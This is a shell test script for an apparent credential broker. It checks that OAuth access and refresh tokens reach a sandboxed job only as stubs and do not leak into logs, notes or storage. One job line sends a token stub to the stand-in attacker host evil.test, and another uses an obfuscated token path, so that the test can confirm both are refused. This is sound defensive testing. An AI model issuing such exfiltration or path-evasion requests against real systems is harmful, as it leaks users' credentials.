#!/bin/sh
# OAuth in a job: tokens that a declared endpoint issues reach the agent as
# stubs, work as such, can be refreshed, and go with the job.
# shellcheck disable=SC2016
# shellcheck source=../attack/lib.sh
. "$BRIG_SRCDIR/tests/attack/lib.sh"
command -v python3 >/dev/null || {
    echo "1..0 # SKIP needs python3"
    exit 77
}
attack_setup capture
make_cert oauth.test
SECRET=$(random_token)
: >"$T/oauth.rec"
background python3 "$BRIG_SRCDIR/tests/e2e/oauth_origin.py" \
    "$T/oauth.test.pem" "$T/oauth.test.key" "$SECRET" "$T/oauth.rec" \
    >"$T/oauth.out"
wait_for 10 grep -q listening "$T/oauth.out"
OAUTH=$(awk '/listening/ { print $2 }' "$T/oauth.out")
stop_brigd
echo "resolve oauth.test 127.0.0.1" >>"$T/brigd.conf"
attack_policy "allow http {GET,POST} https://oauth.test:$OAUTH/**;" \
    "allow net 127.0.0.1:$OAUTH;"
start_brigd
printf %s "$SECRET" | brig secret add app --host "oauth.test:$OAUTH" \
    --surface body:form --surface body:json --surface basic:app \
    --env CLIENT_SECRET \
    --capture /oauth/token:.access_token,.refresh_token >/dev/null
O="https://oauth.test:$OAUTH"

# What the origin has issued so far, in every spelling, and the secret.
issued() {
    python3 -c '
import json, sys
for line in open(sys.argv[1]):
    for t in json.loads(line).get("issued", []):
        print(t)' "$T/oauth.rec"
}
no_token() {
    {
        spellings "$SECRET"
        for no_token_t in $(issued); do spellings "$no_token_t"; done
    } >"$T/tokens"
    if grep -aF -f "$T/tokens" "$@"; then
        return 1
    fi
}

direct_curl oauth.test "$OAUTH" -d grant_type=client_credentials \
    -d "client_secret=$SECRET" "$O/oauth/token"
issued >"$T/first"
check "control: the endpoint issues tokens" grep -qF -f "$T/first" \
    "$T/outside.out"
if (no_token "$T/outside.out") >/dev/null; then
    not_ok "control: a token in a file is found"
else
    ok "control: a token in a file is found"
fi

cat >"$T/ws/oauth.sh" <<EOF
pick() { sed -n "s/.*\"\$1\": *\"\([^\"]*\)\".*/\1/p" "\$2"; }
curl -sS -d grant_type=client_credentials -d "client_secret=\$CLIENT_SECRET" \
    $O/oauth/token >/tmp/one
cat /tmp/one
a=\$(pick access_token /tmp/one) r=\$(pick refresh_token /tmp/one)
echo "lengths \${#a} \${#r}"
echo "api \$(curl -sS -H "Authorization: Bearer \$a" $O/api)"
curl -sS -D - -H "Authorization: Bearer \$a" $O/mirror
curl -sS -d grant_type=refresh_token --data-urlencode "refresh_token=\$r" \
    $O/oauth/token >/tmp/two
cat /tmp/two
b=\$(pick access_token /tmp/two) s=\$(pick refresh_token /tmp/two)
test "\$a" != "\$b" && echo "another access token"
echo "refreshed \$(curl -sS -H "Authorization: Bearer \$b" $O/api)"
echo "reused \$(curl -sS -d grant_type=refresh_token -d "refresh_token=\$r" $O/oauth/token)"
curl -sS -H 'Content-Type: application/json' \
    -d "{\"grant_type\":\"refresh_token\",\"refresh_token\":\"\$s\"}" \
    "$O/oauth/token?as=cookie" -D - >/tmp/three
cat /tmp/three
c=\$(pick access_token /tmp/three)
echo "by json \$(curl -sS -H "Authorization: Bearer \$c" $O/api)"
curl -sS --compressed -u "app:\$CLIENT_SECRET" -d grant_type=client_credentials \
    "$O/oauth/token?as=gzip" >/tmp/four
cat /tmp/four
d=\$(pick access_token /tmp/four)
echo "by gzip \$(curl -sS -H "Authorization: Bearer \$d" $O/api)"
curl -sS -d "note=\$s" $O/notes >/dev/null
curl -sS -H 'Content-Type: application/json' -d "{\"note\":\"\$c\"}" \
    $O/notes >/dev/null
echo "elsewhere \$(curl -sS -H "Authorization: Bearer \$a" https://evil.test:$EVIL/echo)"
printf %s "\$a" >/workspace/stub
EOF
job 'sh /workspace/oauth.sh'
check "tokens keep their length" job_says "lengths 44 44"
check "a stub is the access token to the API" job_says 'api {"ok":true}'
check "refreshing with the stub issues another" job_says "another access token"
check "which works" job_says 'refreshed {"ok":true}'
check "a used refresh token stays used" job_says 'reused {"error":"invalid_grant"}'
check "refreshing by JSON works" job_says 'by json {"ok":true}'
check "a compressed answer works" job_says 'by gzip {"ok":true}'
check "a stub to another host is refused" job_says 'elsewhere {"error":"credential_leak"'
check "expires_in is left alone" job_says '"expires_in": 3600'
check "the job saw no token in any spelling" no_token "$T/job.out"
check "nor did anything in its workspace" sh -c 'cd "$0" && ! grep -rlF -f "$1" .' \
    "$T/ws" "$T/tokens"
check "the other host got none" no_token "$T/evil.test.rec"
grep '"/notes"' "$T/oauth.rec" >"$T/notes"
check "control: the job wrote notes at the same host" \
    test "$(wc -l <"$T/notes")" = 2
check "no token could be stored in them" no_token "$T/notes"
check "no log has one" no_token "$T"/log/*.jsonl "$T/brigd.log"
check "the vault's file has none" no_token "$T"/state/vault
check "each is on record" audited KY301 '"app.access_token"'
check "and its use" audited KY101 '"app.refresh_token"'

stub=$(cat "$T/ws/stub")
job "curl -sS -H 'Authorization: Bearer $stub' $O/api"
check "a stub of an ended job is worth nothing" job_says '{"ok":false}'
check "the ended job's tokens are gone" sh -c \
    'brig --json secret list | grep -q "\"captured\": 0"'

# keyd dies in between.
keyd_pid() {
    brig --json status | python3 -c '
import json, sys
for p in json.load(sys.stdin)["processes"]:
    if p["role"] == "keyd":
        print(p["pid"])'
}
cat >"$T/ws/restart.sh" <<EOF
pick() { sed -n "s/.*\"\$1\": *\"\([^\"]*\)\".*/\1/p" "\$2"; }
curl -sS -d grant_type=client_credentials -d "client_secret=\$CLIENT_SECRET" \
    $O/oauth/token >/tmp/one
a=\$(pick access_token /tmp/one) r=\$(pick refresh_token /tmp/one)
touch /workspace/ready
while ! test -e /workspace/go; do sleep 0.1; done
for i in 1 2 3 4 5 6 7 8 9 10; do
    curl -sS -H "Authorization: Bearer \$a" $O/api >/tmp/api
    grep -q true /tmp/api && break
    sleep 1
done
echo "after restart \$(cat /tmp/api)"
curl -sS -d grant_type=refresh_token -d "refresh_token=\$r" $O/oauth/token >/tmp/two
b=\$(pick access_token /tmp/two)
echo "refreshed \$(curl -sS -H "Authorization: Bearer \$b" $O/api)"
EOF
brig submit -w "$T/ws" -- sh /workspace/restart.sh >"$T/id"
wait_for 20 test -e "$T/ws/ready"
old=$(keyd_pid)
kill -9 "$old"
another_keyd() {
    another=$(keyd_pid)
    test -n "$another" && test "$another" != "$old"
}
wait_for 10 another_keyd
touch "$T/ws/go"
brig wait "$(cat "$T/id")"
brig logs "$(cat "$T/id")" >"$T/job.out" 2>&1
check "a restart of keyd loses no token" job_says 'after restart {"ok":true}'
check "nor the way to refresh it" job_says 'refreshed {"ok":true}'
check "the job saw no token" no_token "$T/job.out"

# What cannot be read is not passed on.
cat >"$T/ws/bad.sh" <<EOF
for how in form text; do
    curl -sS -d grant_type=client_credentials \
        -d "client_secret=\$CLIENT_SECRET" "$O/oauth/token?as=\$how"
done
curl -sS -d grant_type=client_credentials -d "client_secret=\$CLIENT_SECRET" \
    "$O//oauth/./%74oken;x=1/"
curl -sS $O/other/token
EOF
job 'sh /workspace/bad.sh'
issued | tail -n 1 >"$T/undeclared"
check "an answer that is not JSON is refused, with the reason" \
    sh -c 'test "$(grep -c "it is not JSON" "$0")" = 2 ||
        test "$(grep -o "it is not JSON" "$0" | wc -l)" = 2' "$T/job.out"
check "control: a path that nobody declared gives what the origin gives" \
    grep -qF -f "$T/undeclared" "$T/job.out"
issued | sed '$d' >"$T/declared"
check "no token of the declared one came through, however spelled" \
    sh -c '! grep -F -f "$0" "$1"' "$T/declared" "$T/job.out"

brig secret revoke app >/dev/null
job "curl -sS -d grant_type=client_credentials $O/oauth/token"
check "a revoked credential issues nothing" job_does_not_say access_token
attack_end
